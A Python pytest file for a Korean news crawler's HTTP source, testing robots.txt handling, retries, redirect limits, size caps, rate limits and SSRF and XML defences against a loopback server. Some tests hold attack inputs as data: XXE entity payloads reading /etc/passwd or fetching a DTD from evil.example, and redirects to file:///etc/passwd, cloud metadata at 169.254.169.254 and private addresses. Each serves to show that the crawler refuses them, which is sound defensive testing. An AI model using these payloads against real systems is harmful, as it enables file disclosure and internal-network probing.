"""The HTTP source against a real server on 127.0.0.1 (no other network), started and stopped by the tests."""

import asyncio
import gzip
import ipaddress
import socket
import ssl
import threading
import time
from collections import Counter
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

import httpcore
import httpx
import pytest

from news_assets.kst import KST
from news_assets.sources.http import HttpSettings, HttpSource, Outlet, addresses
from news_assets.sources.http import source as http_source
from news_assets.sources.http.discover import DiscoveryError, Entry, parse_date, parse_document, select
from news_assets.sources.http.transport import PinnedTransport, httpx_error

DAY = date(2026, 11, 16)
UA = "news-assets-test/1.0 (+https://example.org/contact)"
UTF8_PAGE = "<html><head><title>한빛경제</title></head><body><p>반도체 수출이 늘었다.</p></body></html>".encode()
EUCKR_PAGE = "<html><body><p>서울일보: 지하철 요금 인상</p></body></html>".encode("cp949")
ETAG_PAGE = "<html><body><p>변하지 않는 기사</p></body></html>".encode()
LAST_MODIFIED = "Mon, 16 Nov 2026 01:00:00 GMT"


@dataclass(frozen=True)
class Seen:
    path: str
    host: str
    headers: dict
    at: float


class Site:
    """What the server serves and what it saw."""

    def __init__(self):
        self.lock = threading.Lock()
        self.in_flight = 0
        self.port = 0
        self.reset()

    def reset(self):
        # Handlers of an earlier test may still be sleeping (timed-out slow pages); wait them out first.
        deadline = time.monotonic() + 5
        while self.in_flight and time.monotonic() < deadline:
            time.sleep(0.02)
        with self.lock:
            self.requests: list[Seen] = []
            self.hits = Counter()
            self.in_flight = 0
            self.max_in_flight = 0
            self.robots_status = 200
            self.robots_body = b"User-agent: *\nDisallow: /private/\n"
            self.feeds: dict[str, bytes] = {}
            self.redirects: dict[str, str] = {}
            self.answers: dict[str, tuple[int, bytes]] = {}

    def paths(self):
        return [r.path for r in self.requests]

    @property
    def base(self):
        return f"http://127.0.0.1:{self.port}"


def url_entry(loc, published=None, lastmod=None):
    news = (
        f"<news:news><news:publication><news:name>Loopback</news:name><news:language>ko</news:language>"
        f"</news:publication><news:publication_date>{published}</news:publication_date>"
        f"<news:title>기사</news:title></news:news>"
        if published
        else ""
    )
    modified = f"<lastmod>{lastmod}</lastmod>" if lastmod else ""
    return f"<url><loc>{loc}</loc>{modified}{news}</url>"


def urlset(*entries):
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
        'xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">' + "".join(entries) + "</urlset>"
    ).encode()


def news_sitemap(base):
    on_day = "2026-11-16T10:00:00+09:00"
    return urlset(
        url_entry(f"{base}/articles/utf8", on_day),
        # 01:00 UTC is 10:00 in Seoul, the same day.
        url_entry(f"{base}/articles/euckr", "2026-11-16T01:00:00Z"),
        # 20:00 UTC is the next morning in Seoul.
        url_entry(f"{base}/articles/tomorrow", "2026-11-16T20:00:00Z"),
        url_entry(f"{base}/private/secret", on_day),
        url_entry(f"{base}/slow", on_day),
        url_entry(f"{base}/flaky", on_day),
        url_entry(f"{base}/broken", on_day),
        url_entry(f"{base}/throttled", on_day),
        url_entry(f"{base}/redirect/1", on_day),
        url_entry(f"{base}/away", on_day),
        url_entry(f"{base}/loop/a", on_day),
        url_entry(f"{base}/chain/0", on_day),
        url_entry(f"{base}/to-file", on_day),
        url_entry(f"{base}/huge", on_day),
        url_entry(f"{base}/etag", on_day),
        url_entry("https://elsewhere.example/story", on_day),
        url_entry("ftp://127.0.0.1/story", on_day),
    )


def sitemap_index(base):
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        f"<sitemap><loc>{base}/sitemap-2026-10.xml</loc><lastmod>2026-10-31T23:00:00+09:00</lastmod></sitemap>"
        f"<sitemap><loc>{base}/sitemap-2026-11.xml</loc><lastmod>2026-11-16T12:00:00+09:00</lastmod></sitemap>"
        "</sitemapindex>"
    ).encode()


def rss(base):
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Loopback</title>
<item><title>RSS 기사</title><link>{base}/articles/rss</link><pubDate>Mon, 16 Nov 2026 09:30:00 +0900</pubDate></item>
<item><title>어제</title><link>{base}/articles/rss-old</link><pubDate>Sun, 15 Nov 2026 09:30:00 +0900</pubDate></item>
<item><title>중복</title><link>{base}/articles/utf8</link><dc:date>2026-11-16T10:00:00+09:00</dc:date></item>
<item><title>날짜 없음</title><guid isPermaLink="true">{base}/articles/undated</guid></item>
</channel></rss>""".encode()


def atom(base):
    return f"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Loopback</title><updated>2026-11-16T12:00:00Z</updated>
<entry><title>Atom 기사</title><link rel="alternate" href="{base}/articles/atom"/>
<published>2026-11-16T05:00:00Z</published><updated>2026-11-17T05:00:00Z</updated></entry>
<entry><title>다음날</title><link href="{base}/articles/atom-later"/><updated>2026-11-17T05:00:00+09:00</updated></entry>
</feed>""".encode()


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def do_GET(self):
        site: Site = self.server.site
        with site.lock:
            site.requests.append(Seen(self.path, self.headers.get("Host", ""), dict(self.headers), time.monotonic()))
            site.hits[self.path] += 1
            hit = site.hits[self.path]
            site.in_flight += 1
            site.max_in_flight = max(site.max_in_flight, site.in_flight)
        self._done = False
        try:
            self.route(site, hit)
        finally:
            self.finish_request()

    def finish_request(self):
        # In flight ends before the answer leaves, so that the client's next request cannot overlap it here.
        if not self._done:
            self._done = True
            with self.server.site.lock:
                self.server.site.in_flight -= 1

    def send(self, status, body=b"", content_type="text/html; charset=utf-8", headers=()):
        self.finish_request()
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def redirect(self, location, status=302):
        self.send(status, headers=[("Location", location)])

    def route(self, site, hit):
        path = self.path
        base = site.base
        xml = "application/xml; charset=utf-8"
        if path == "/robots.txt":
            self.send(site.robots_status, site.robots_body, "text/plain")
        elif path == "/news-sitemap.xml":
            self.send(200, news_sitemap(base), xml)
        elif path == "/sitemap-index.xml":
            self.send(200, sitemap_index(base), xml)
        elif path == "/sitemap-2026-11.xml":
            self.send(
                200,
                urlset(
                    url_entry(f"{base}/articles/from-index", lastmod="2026-11-16"),
                    url_entry(f"{base}/articles/old", lastmod="2026-11-01"),
                ),
                xml,
            )
        elif path == "/rss.xml":
            self.send(200, rss(base), "application/rss+xml")
        elif path == "/atom.xml":
            self.send(200, atom(base), "application/atom+xml")
        elif path in site.answers:
            self.send(*site.answers[path])
        elif path in site.redirects:
            self.redirect(site.redirects[path])
        elif path in site.feeds:
            self.send(200, site.feeds[path], "application/rss+xml")
        elif path == "/articles/euckr":
            self.send(200, EUCKR_PAGE, "text/html; charset=EUC-KR")
        elif path.startswith(("/articles/", "/private/")):
            self.send(200, UTF8_PAGE)
        elif path.startswith("/pace/"):
            time.sleep(0.15)
            self.send(200, UTF8_PAGE)
        elif path == "/slow":
            time.sleep(1.0)
            self.send(200, UTF8_PAGE)
        elif path == "/flaky":
            self.send(503, b"busy") if hit <= 2 else self.send(200, UTF8_PAGE)
        elif path == "/broken":
            self.send(500, b"broken")
        elif path == "/throttled":
            self.send(429, b"slow down", headers=[("Retry-After", "1")]) if hit == 1 else self.send(200, UTF8_PAGE)
        elif path == "/redirect/1":
            self.redirect("/redirect/2", 301)
        elif path == "/redirect/2":
            self.redirect(f"{base}/articles/final", 307)
        elif path == "/away":
            self.redirect(f"http://localhost:{site.port}/articles/utf8")
        elif path == "/loop/a":
            self.redirect("/loop/b")
        elif path == "/loop/b":
            self.redirect("/loop/a")
        elif path.startswith("/chain/"):
            self.redirect(f"/chain/{int(path.rsplit('/', 1)[1]) + 1}")
        elif path == "/to-file":
            self.redirect("file:///etc/passwd")
        elif path == "/huge":
            self.finish_request()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Connection", "close")
            self.end_headers()
            self.close_connection = True
            for _ in range(40):
                self.wfile.write(b"<p>" + b"x" * 8189 + b"</p>")
        elif path == "/etag":
            if self.headers.get("If-None-Match") == '"v1"':
                self.send(304, headers=[("ETag", '"v1"')])
            else:
                self.send(200, ETAG_PAGE, headers=[("ETag", '"v1"'), ("Last-Modified", LAST_MODIFIED)])
        else:
            self.send(404, b"not found")


class QuietServer(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False

    def handle_error(self, request, client_address):
        # Clients that give up (timeouts, size cap) leave broken pipes behind; that is the point of the tests.
        pass


@pytest.fixture(scope="module")
def site():
    site = Site()
    server = QuietServer(("127.0.0.1", 0), Handler)
    server.site = site
    site.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield site
    server.shutdown()
    server.server_close()
    thread.join(timeout=5)


def settings(tmp_path, **overrides):
    values = dict(
        user_agent=UA,
        max_bytes=100_000,
        timeout_s=0.3,
        total_timeout_s=2.0,
        per_host_rps=50.0,
        per_host_concurrency=4,
        retries=2,
        backoff_s=0.05,
        max_retry_after_s=5.0,
        max_redirects=3,
        state_dir=str(tmp_path / "http_state"),
        # The test server listens on loopback, which the crawler refuses unless told otherwise.
        allow_private=True,
    )
    values.update(overrides)
    return HttpSettings(**values)


def loopback_outlet(site, **kwargs):
    base = site.base
    return Outlet(
        "loopback",
        sitemaps=(f"{base}/news-sitemap.xml", f"{base}/sitemap-index.xml", f"{base}/missing-sitemap.xml"),
        feeds=(f"{base}/rss.xml", f"{base}/atom.xml"),
        **kwargs,
    )


@dataclass
class Crawl:
    pages: dict
    requests: list
    state: object


@pytest.fixture(scope="module")
def crawl(site, tmp_path_factory):
    """One full crawl of the loopback outlet for DAY; the tests below look at what it yielded and sent."""
    site.reset()
    state = tmp_path_factory.mktemp("crawl")
    source = HttpSource(settings(state), [loopback_outlet(site)], today=lambda: DAY)
    pages = list(source.pages(DAY))
    by_url = {p.url: p for p in pages}
    assert len(by_url) == len(pages), "each URL once"
    return Crawl(by_url, list(site.requests), state)


def page(crawl, site, path):
    return crawl.pages[f"{site.base}{path}"]


def requested(crawl, path):
    return [r for r in crawl.requests if r.path == path]


def test_the_days_articles_come_from_sitemaps_index_and_feeds(crawl, site):
    listed = {url.removeprefix(site.base) for url in crawl.pages}
    assert {
        "/articles/utf8",
        "/articles/euckr",
        "/articles/from-index",
        "/articles/rss",
        "/articles/atom",
        "/articles/undated",
    } <= listed
    # Other KST days, and a sitemap the index dates before the day, are not fetched.
    for other in ("/articles/tomorrow", "/articles/old", "/articles/rss-old", "/articles/atom-later"):
        assert other not in listed and not requested(crawl, other)
    assert not requested(crawl, "/sitemap-2026-10.xml")
    assert len(requested(crawl, "/articles/utf8")) == 1, "listed by the sitemap and the feed, fetched once"


def test_korean_pages_keep_bytes_status_and_declared_charset(crawl, site):
    utf8 = page(crawl, site, "/articles/utf8")
    assert utf8.html == UTF8_PAGE and utf8.read_error is None and utf8.http_status == 200
    assert utf8.declared_charset == "utf-8" and utf8.outlet == "loopback" and utf8.source == "http"
    assert utf8.news_date == DAY and utf8.fetched_at.tzinfo is not None
    assert utf8.location == utf8.url
    euckr = page(crawl, site, "/articles/euckr")
    assert euckr.html == EUCKR_PAGE and euckr.declared_charset == "euc-kr"
    assert euckr.html.decode("cp949") == "<html><body><p>서울일보: 지하철 요금 인상</p></body></html>"


def test_every_request_carries_the_user_agent_and_robots_is_fetched_once(crawl):
    assert crawl.requests and all(r.headers.get("User-Agent") == UA for r in crawl.requests)
    assert len(requested(crawl, "/robots.txt")) == 1
    assert crawl.requests[0].path == "/robots.txt"


def test_robots_disallowed_page_is_not_requested(crawl, site):
    secret = page(crawl, site, "/private/secret")
    assert secret.html is None and secret.read_error.startswith("robots_disallowed")
    assert not requested(crawl, "/private/secret")


def test_retries_after_503_and_429_but_not_forever_on_500(crawl, site):
    flaky = page(crawl, site, "/flaky")
    assert flaky.html == UTF8_PAGE and flaky.read_error is None
    assert len(requested(crawl, "/flaky")) == 3
    broken = page(crawl, site, "/broken")
    assert broken.html is None and broken.http_status == 500
    assert broken.read_error.startswith("http_error: 500") and "after 3 attempts" in broken.read_error
    assert len(requested(crawl, "/broken")) == 3
    throttled = page(crawl, site, "/throttled")
    assert throttled.html == UTF8_PAGE
    first, second = requested(crawl, "/throttled")
    assert second.at - first.at >= 0.95, "Retry-After: 1 is honoured"


def test_slow_page_times_out(crawl, site):
    slow = page(crawl, site, "/slow")
    assert slow.html is None and slow.read_error.startswith("timeout")
    assert len(requested(crawl, "/slow")) == 3


def test_redirects_within_the_host_are_followed(crawl, site):
    final = page(crawl, site, "/redirect/1")
    assert final.html == UTF8_PAGE and final.read_error is None
    assert final.location == f"{site.base}/articles/final"


def test_redirects_off_host_to_file_and_in_loops_are_refused(crawl, site):
    away = page(crawl, site, "/away")
    assert away.html is None and away.read_error.startswith("redirect_refused")
    assert not [r for r in crawl.requests if r.host.startswith("localhost")]
    to_file = page(crawl, site, "/to-file")
    assert to_file.read_error.startswith("redirect_refused") and "file:///etc/passwd" in to_file.read_error
    loop = page(crawl, site, "/loop/a")
    assert loop.read_error.startswith("too_many_redirects")
    assert len([r for r in crawl.requests if r.path.startswith("/loop/")]) <= 4
    chain = page(crawl, site, "/chain/0")
    assert chain.read_error.startswith("too_many_redirects")
    # max_redirects=3: the first request and three hops.
    assert len([r for r in crawl.requests if r.path.startswith("/chain/")]) == 4


def test_urls_outside_the_configuration_are_never_fetched(crawl):
    elsewhere = crawl.pages["https://elsewhere.example/story"]
    assert elsewhere.html is None and elsewhere.read_error.startswith("blocked_host")
    ftp = crawl.pages["ftp://127.0.0.1/story"]
    assert ftp.html is None and ftp.read_error.startswith("blocked_scheme")


def test_oversized_page_is_cut_off_at_the_cap(crawl, site):
    huge = page(crawl, site, "/huge")
    assert huge.html is None and huge.read_error.startswith("too_large") and huge.http_status == 200


def test_failed_sitemap_is_a_discovery_error_page(crawl, site):
    missing = page(crawl, site, "/missing-sitemap.xml")
    assert missing.html is None and missing.http_status == 404
    assert missing.read_error.startswith("discovery_error: http_error: 404")


def test_unchanged_page_is_not_downloaded_twice(crawl, site):
    first = page(crawl, site, "/etag")
    assert first.html == ETAG_PAGE and "If-None-Match" not in requested(crawl, "/etag")[0].headers
    site.reset()
    site.feeds["/etag-feed.xml"] = rss_items(site, ["/etag"])
    # Same state dir as the full crawl (another outlet id, so that the loopback outlet's ledger is not re-crawled).
    source = HttpSource(settings(crawl.state), [Outlet("etag-only", feeds=(f"{site.base}/etag-feed.xml",))])
    (again,) = source.pages(DAY)
    (seen,) = requested_now(site, "/etag")
    assert seen.headers.get("If-None-Match") == '"v1"'
    assert seen.headers.get("If-Modified-Since") == LAST_MODIFIED
    assert again.html == ETAG_PAGE and again.read_error is None and again.http_status == 200


def rss_items(site, paths, pub_date="Mon, 16 Nov 2026 09:30:00 +0900"):
    items = "".join(f"<item><link>{site.base}{p}</link><pubDate>{pub_date}</pubDate></item>" for p in paths)
    return f'<?xml version="1.0"?><rss version="2.0"><channel>{items}</channel></rss>'.encode()


def requested_now(site, path):
    return [r for r in site.requests if r.path == path]


def test_per_host_concurrency_is_capped(site, tmp_path):
    site.reset()
    site.feeds["/pace-feed.xml"] = rss_items(site, [f"/pace/{n}" for n in range(8)])
    source = HttpSource(
        settings(tmp_path, per_host_concurrency=2, per_host_rps=1000.0),
        [Outlet("pace", feeds=(f"{site.base}/pace-feed.xml",))],
    )
    pages = list(source.pages(DAY))
    assert len(pages) == 8 and all(p.read_error is None for p in pages)
    assert site.max_in_flight == 2


def test_per_host_rate_spaces_request_starts(site, tmp_path):
    site.reset()
    paths = [f"/articles/rate-{n}" for n in range(8)]
    site.feeds["/rate-feed.xml"] = rss_items(site, paths)
    rps = 20.0
    source = HttpSource(
        settings(tmp_path, per_host_concurrency=8, per_host_rps=rps),
        [Outlet("rate", feeds=(f"{site.base}/rate-feed.xml",))],
    )
    started = time.monotonic()
    assert len(list(source.pages(DAY))) == 8
    elapsed = time.monotonic() - started
    starts = sorted(r.at for r in site.requests)
    # robots.txt, the feed and 8 pages: 10 request starts at most 20 a second.
    assert len(starts) == 10
    assert elapsed >= (len(starts) - 1) / rps
    # Seen from the server, network jitter aside.
    assert starts[-1] - starts[0] >= 0.8 * (len(starts) - 1) / rps


@pytest.mark.parametrize(("status", "allowed"), [(503, False), (404, True), (403, True), (429, False)])
def test_robots_failures_disallow_and_absence_allows(site, tmp_path, status, allowed):
    site.reset()
    site.robots_status = status
    site.feeds["/robots-feed.xml"] = rss_items(site, ["/private/one", "/articles/two"])
    source = HttpSource(
        settings(tmp_path, retries=0), [Outlet("robots", feeds=(f"{site.base}/robots-feed.xml",))], today=lambda: DAY
    )
    pages = list(source.pages(DAY))
    if allowed:
        assert sorted(p.url.removeprefix(site.base) for p in pages) == ["/articles/two", "/private/one"]
        assert all(p.read_error is None for p in pages)
    else:
        # Even the feed is not fetched from a host whose robots.txt is failing.
        (feed,) = pages
        assert feed.read_error.startswith("discovery_error: robots_disallowed")
        assert site.paths() == ["/robots.txt"]


def test_robots_crawl_delay_slows_the_host_down(site, tmp_path):
    site.reset()
    site.robots_body = b"User-agent: news-assets-test\nCrawl-delay: 1\nDisallow: /private/\n"
    site.feeds["/delay-feed.xml"] = rss_items(site, ["/articles/delayed"])
    source = HttpSource(settings(tmp_path), [Outlet("delay", feeds=(f"{site.base}/delay-feed.xml",))])
    (delayed,) = source.pages(DAY)
    assert delayed.read_error is None
    assert site.paths() == ["/robots.txt", "/delay-feed.xml", "/articles/delayed"]
    feed, article = site.requests[1:]
    assert article.at - feed.at >= 0.95


def test_unreachable_host_is_a_page_not_an_exception(tmp_path):
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    # Nothing listens there now: robots.txt cannot be fetched, so the host counts as disallowed for the run.
    source = HttpSource(
        settings(tmp_path, retries=1), [Outlet("gone", sitemaps=(f"http://127.0.0.1:{port}/sitemap.xml",))]
    )
    (failed,) = source.pages(DAY)
    assert failed.url == f"http://127.0.0.1:{port}/sitemap.xml" and failed.outlet == "gone"
    assert failed.read_error.startswith("discovery_error: robots_disallowed")
    assert "robots.txt unavailable (network_error" in failed.read_error


def test_closing_the_iterator_early_stops_the_crawl(site, tmp_path):
    site.reset()
    site.feeds["/many-feed.xml"] = rss_items(site, [f"/pace/{n}" for n in range(20)])
    source = HttpSource(
        settings(tmp_path, per_host_concurrency=1), [Outlet("many", feeds=(f"{site.base}/many-feed.xml",))]
    )
    pages = source.pages(DAY)
    first = next(pages)
    assert first.read_error is None
    pages.close()
    assert not [t for t in threading.enumerate() if t.name.startswith("news-assets-http-")]
    seen = len(site.requests)
    time.sleep(0.4)
    assert len(site.requests) <= seen + 1, "no more requests after close"


# Discovery without a server.

BASE = "https://www.hanbit-economy.co.kr"


def test_news_sitemap_dates_and_kst_day_boundaries():
    data = urlset(
        url_entry(f"{BASE}/a", "2026-11-16T23:59:00+09:00"),
        url_entry(f"{BASE}/b", "2026-11-16T15:00:00Z"),  # 00:00 on the 17th in Seoul
        url_entry(f"{BASE}/c", "2026-11-16"),  # a date alone is that Seoul day
        url_entry(f"{BASE}/d", "2026-11-15T23:00:00", lastmod="2026-11-16T10:00:00+09:00"),
        url_entry(f"{BASE}/e#comments", lastmod="2026-11-16T08:00:00+09:00"),
    )
    document = parse_document(data, BASE, 1_000_000)
    assert document.kind == "urlset"
    chosen = [e.url for e in select(document.entries, DAY, today=date(2026, 12, 1))]
    # d was published on the 15th (publication date beats lastmod); e's fragment is dropped.
    assert chosen == [f"{BASE}/a", f"{BASE}/c", f"{BASE}/e"]
    assert [e.url for e in select(document.entries, date(2026, 11, 17), today=DAY)] == [f"{BASE}/b"]


def test_rss_atom_and_undated_entries():
    feed = parse_document(rss("https://x.example"), "https://x.example/rss", 1_000_000)
    assert feed.kind == "rss"
    undated = "https://x.example/articles/undated"
    assert undated in [e.url for e in select(feed.entries, DAY, today=DAY)]
    # An undated entry says nothing about past days.
    assert undated not in [e.url for e in select(feed.entries, DAY, today=date(2026, 11, 20))]
    atom_doc = parse_document(atom("https://x.example"), "https://x.example/atom", 1_000_000)
    assert [e.url for e in select(atom_doc.entries, DAY, today=DAY)] == ["https://x.example/articles/atom"]
    # A dated listing elsewhere beats the undated one.
    entries = [Entry("https://x.example/u"), Entry("https://x.example/u", datetime(2026, 11, 10, tzinfo=KST), 2)]
    assert select(entries, DAY, today=DAY) == []


def test_gzipped_sitemap_index_is_read():
    data = gzip.compress(sitemap_index(BASE))
    document = parse_document(data, BASE, 1_000_000)
    assert document.kind == "sitemapindex"
    assert [e.url for e in document.entries] == [f"{BASE}/sitemap-2026-10.xml", f"{BASE}/sitemap-2026-11.xml"]
    with pytest.raises(DiscoveryError, match="too_large"):
        parse_document(data, BASE, 100)


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
        b"<urlset><url><loc>&lol2;</loc></url></urlset>",
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY ext SYSTEM "file:///etc/passwd">]><urlset><url><loc>&ext;'
        b"</loc></url></urlset>",
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><urlset/>',
    ],
)
def test_entity_declarations_are_refused(data):
    with pytest.raises(DiscoveryError, match="unsafe_xml"):
        parse_document(data, BASE, 1_000_000)


def test_bad_and_foreign_xml_are_discovery_errors():
    with pytest.raises(DiscoveryError, match="bad_xml"):
        parse_document(b"<urlset><url>", BASE, 1000)
    with pytest.raises(DiscoveryError, match="bad_xml: root <html>"):
        parse_document(b"<html><body/></html>", BASE, 1000)


def test_dates_in_feed_formats():
    assert parse_date("Mon, 16 Nov 2026 09:30:00 +0900") == datetime(2026, 11, 16, 0, 30, tzinfo=UTC)
    assert parse_date("2026-11-16T09:30:00Z") == datetime(2026, 11, 16, 9, 30, tzinfo=UTC)
    assert parse_date("2026-11-16 09:30:00") == datetime(2026, 11, 16, 9, 30, tzinfo=KST)
    assert parse_date("16 November") is None and parse_date("") is None


# The crawler cannot be turned inward.


def test_loopback_is_refused_without_allow_private(site, tmp_path):
    site.reset()
    site.feeds["/inward-feed.xml"] = rss_items(site, ["/articles/inward"])
    source = HttpSource(
        settings(tmp_path, allow_private=False), [Outlet("inward", feeds=(f"{site.base}/inward-feed.xml",))]
    )
    (refused,) = source.pages(DAY)
    assert refused.read_error.startswith("discovery_error: blocked_address: loopback address 127.0.0.1")
    assert site.requests == [], "not even robots.txt is asked for"


def test_a_redirect_to_a_private_address_is_refused(site, tmp_path, monkeypatch):
    """public.test stands for an outlet on the internet (the test server, whose loopback address the check is told
    to pass); its article redirects to internal.test, a host the configuration allows but that resolves into the
    private network. The hop is refused before anything connects to it."""
    real = addresses.forbidden
    monkeypatch.setattr(addresses, "forbidden", lambda a: None if str(a) == "127.0.0.1" else real(a))
    names = {"public.test": ["127.0.0.1"], "internal.test": ["10.0.0.7"], "mixed.test": ["127.0.0.1", "fd00::7"]}
    asked: list[str] = []

    async def lookup(host):
        asked.append(host)
        return names[host]

    site.reset()
    public = f"http://public.test:{site.port}"
    site.redirects["/to-internal"] = f"http://internal.test:{site.port}/articles/secret"
    site.redirects["/to-metadata"] = "http://169.254.169.254/latest/meta-data/"
    site.redirects["/to-mapped"] = f"http://[::ffff:10.1.2.3]:{site.port}/articles/x"
    site.feeds["/public-feed.xml"] = (
        '<?xml version="1.0"?><rss version="2.0"><channel>'
        + "".join(
            f"<item><link>{public}{p}</link><pubDate>Mon, 16 Nov 2026 09:30:00 +0900</pubDate></item>"
            for p in ("/articles/ok", "/to-internal", "/to-metadata", "/to-mapped")
        )
        + f"<item><link>http://mixed.test:{site.port}/articles/m</link>"
        "<pubDate>Mon, 16 Nov 2026 09:30:00 +0900</pubDate></item></channel></rss>"
    ).encode()
    outlet = Outlet(
        "public",
        feeds=(f"{public}/public-feed.xml",),
        hosts=("internal.test", "169.254.169.254", "::ffff:10.1.2.3", "mixed.test"),
    )
    source = HttpSource(settings(tmp_path, allow_private=False), [outlet], lookup=lookup)
    pages = {p.url.split("/", 3)[-1]: p for p in source.pages(DAY)}
    assert pages["articles/ok"].html == UTF8_PAGE and pages["articles/ok"].read_error is None
    internal = pages["to-internal"]
    assert internal.html is None and internal.location == f"http://internal.test:{site.port}/articles/secret"
    assert internal.read_error.startswith(
        f"redirect_refused: to http://internal.test:{site.port}/articles/secret: blocked_address: "
        "internal.test resolves to 10.0.0.7: private address 10.0.0.7"
    )
    assert "link-local address 169.254.169.254" in pages["to-metadata"].read_error
    assert "private address 10.1.2.3 (inside ::ffff:a01:203)" in pages["to-mapped"].read_error
    # One private answer among public ones refuses the host.
    assert pages["articles/m"].read_error.startswith("blocked_address: mixed.test resolves to 127.0.0.1, fd00::7")
    assert not [r for r in site.requests if "public.test" not in r.host]
    assert sorted(r.path for r in site.requests) == [
        "/articles/ok",
        "/public-feed.xml",
        "/robots.txt",
        "/to-internal",
        "/to-mapped",
        "/to-metadata",
    ]
    # Each name is resolved once per run: what was checked is what is connected to.
    assert sorted(asked) == ["internal.test", "mixed.test", "public.test"]


@pytest.mark.parametrize(
    ("address", "reason"),
    [
        ("127.0.0.1", "loopback"),
        ("10.1.2.3", "private"),
        ("172.16.0.1", "private"),
        ("192.168.1.1", "private"),
        ("169.254.169.254", "link-local"),
        ("224.0.0.251", "multicast"),
        ("240.0.0.1", "reserved"),
        ("0.0.0.0", "unspecified"),
        ("100.64.0.1", "shared"),
        ("::1", "loopback"),
        ("fe80::1", "link-local"),
        ("fd12:3456::1", "private"),
        ("ff02::1", "multicast"),
        ("::ffff:127.0.0.1", "loopback"),
        ("2002:c0a8:0101::1", "private"),  # 6to4 around 192.168.1.1
        ("8.8.8.8", None),
        ("211.234.100.1", None),
        ("2001:4860:4860::8888", None),
    ],
)
def test_address_categories(address, reason):
    why = addresses.forbidden(ipaddress.ip_address(address))
    assert (why is None) if reason is None else (why is not None and why.startswith(reason))


def test_connections_go_to_the_checked_address_only():
    """DNS rebinding: a name that answers a public address, then a private one. The resolver asks once per run
    and the backend connects to the IP literal it checked, so the second answer is never used — also when the
    connections are the crawl transport's, whose pool was built on that backend."""
    answers = [["127.0.0.1"], ["10.0.0.1"]]
    calls = []

    async def lookup(host):
        calls.append(host)
        return answers[len(calls) - 1]

    class Recorder(httpcore.AsyncNetworkBackend):
        def __init__(self):
            self.targets = []

        async def connect_tcp(self, host, port, timeout=None, local_address=None, socket_options=None):
            self.targets.append(host)
            raise httpcore.ConnectError("recorded only")

    async def run():
        inner = Recorder()
        resolver = addresses.Resolver(allow_private=False, lookup=lookup)
        real = addresses.forbidden
        addresses.forbidden = lambda a: None if str(a) == "127.0.0.1" else real(a)
        try:
            backend = addresses.PinnedBackend(resolver, inner)
            for _ in range(2):
                with pytest.raises(httpcore.ConnectError):
                    await backend.connect_tcp("flip.test", 80)
            crawl = PinnedTransport(backend)
            assert crawl.backend is backend and isinstance(crawl.pool, httpcore.AsyncConnectionPool)
            async with httpx.AsyncClient(transport=crawl) as client:
                for url in ("http://flip.test/a", "https://flip.test/b"):
                    # httpcore's ConnectError comes out as httpx's, which the fetcher reports as network_error.
                    with pytest.raises(httpx.ConnectError, match="recorded only"):
                        await client.get(url)
        finally:
            addresses.forbidden = real
        return inner.targets

    assert asyncio.run(run()) == ["127.0.0.1"] * 4
    assert calls == ["flip.test"]


class RecordingTransport(PinnedTransport):
    built: ClassVar[list[PinnedTransport]] = []

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        RecordingTransport.built.append(self)


def test_the_crawl_client_connects_through_the_pinned_backend(site, tmp_path, monkeypatch):
    site.reset()
    site.feeds["/pinned-feed.xml"] = rss_items(site, ["/articles/pinned"])
    RecordingTransport.built = []
    monkeypatch.setattr(http_source, "PinnedTransport", RecordingTransport)
    source = HttpSource(settings(tmp_path), [Outlet("pinned", feeds=(f"{site.base}/pinned-feed.xml",))])
    (pinned,) = source.pages(DAY)
    assert pinned.read_error is None
    (transport,) = RecordingTransport.built
    assert transport.proxy is None and isinstance(transport.pool, httpcore.AsyncConnectionPool)
    assert isinstance(transport.backend, addresses.PinnedBackend)
    # robots.txt, the feed and the article: every connection the pool opened went through the backend.
    assert transport.backend.connected and set(transport.backend.connected) == {("127.0.0.1", "127.0.0.1")}


def test_with_a_proxy_only_the_proxy_is_connected_to(site, tmp_path, monkeypatch):
    """The test server plays the proxy: it gets absolute-form requests for proxied.test, a host that resolves to a
    public address nothing connects to. The target is still checked; the connection goes to the proxy alone."""
    site.reset()
    target = "http://proxied.test"
    site.feeds[f"{target}/proxy-feed.xml"] = (
        '<?xml version="1.0"?><rss version="2.0"><channel>'
        f"<item><link>{target}/articles/p</link><pubDate>Mon, 16 Nov 2026 09:30:00 +0900</pubDate></item>"
        "</channel></rss>"
    ).encode()
    site.answers[f"{target}/articles/p"] = (200, UTF8_PAGE)
    asked = []

    async def lookup(host):
        asked.append(host)
        return {"proxied.test": ["93.184.216.34"]}[host]

    RecordingTransport.built = []
    monkeypatch.setattr(http_source, "PinnedTransport", RecordingTransport)
    source = HttpSource(
        settings(tmp_path, allow_private=False, proxy=site.base),
        [Outlet("proxied", feeds=(f"{target}/proxy-feed.xml",))],
        lookup=lookup,
    )
    (page,) = source.pages(DAY)
    assert page.read_error is None and page.html == UTF8_PAGE
